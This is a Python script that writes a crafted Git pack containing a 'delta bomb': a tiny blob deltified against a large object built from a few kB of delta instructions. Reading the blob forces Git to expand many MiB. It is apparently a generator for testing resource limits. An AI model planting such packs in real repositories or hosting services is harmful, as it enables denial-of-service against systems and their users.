"""Packs with a delta bomb: a small blob that Git has to build out of one of many MiB, which takes a few kB of the pack.

usage: delta_bomb.py REPOSITORY MIB    writes objects/pack/ there, and prints the id of the small blob
"""

import hashlib
import pathlib
import struct
import subprocess
import sys
import zlib

BASE = b"a" * (64 << 10)
SMALL = 100
BLOB, REF_DELTA = 3, 7


def size_of(number):
    """Seven bits a byte, the lowest first."""
    out = bytearray()
    while True:
        byte = number & 0x7F
        number >>= 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


def header(kind, size):
    first = (kind << 4) | (size & 15)
    size >>= 4
    return bytes([first | (0x80 if size else 0)]) + (size_of(size) if size else b"")


def copy(size):
    """A delta's instruction: so many bytes from the start of the base (0x10000 is written as no size at all)."""
    if size == 0x10000:
        return bytes([0x80])
    return bytes([0x80 | 0x10 | 0x20, size & 0xFF, size >> 8])


def blob_id(pieces, size):
    sha = hashlib.sha1(b"blob %d\0" % size)
    for piece in pieces:
        sha.update(piece)
    return sha.digest()


def entry(kind, data, base=b""):
    return header(kind, len(data)) + base + zlib.compress(data)


def main():
    repository, mib = pathlib.Path(sys.argv[1]), int(sys.argv[2])
    copies = mib * 16
    size = copies * len(BASE)
    base = blob_id([BASE], len(BASE))
    bomb = blob_id((BASE for _ in range(copies)), size)
    small = blob_id([BASE[:SMALL]], SMALL)
    to_bomb = size_of(len(BASE)) + size_of(size) + copy(0x10000) * copies
    to_small = size_of(size) + size_of(SMALL) + copy(SMALL)
    body = b"PACK" + struct.pack(">II", 2, 3) + entry(BLOB, BASE) + entry(REF_DELTA, to_bomb, base) + entry(
        REF_DELTA, to_small, bomb)
    body += hashlib.sha1(body).digest()
    pack = repository / "objects/pack/pack-bomb.pack"
    pack.write_bytes(body)
    subprocess.run(["git", "index-pack", str(pack)], check=True, capture_output=True)
    print(small.hex())


if __name__ == "__main__":
    main()
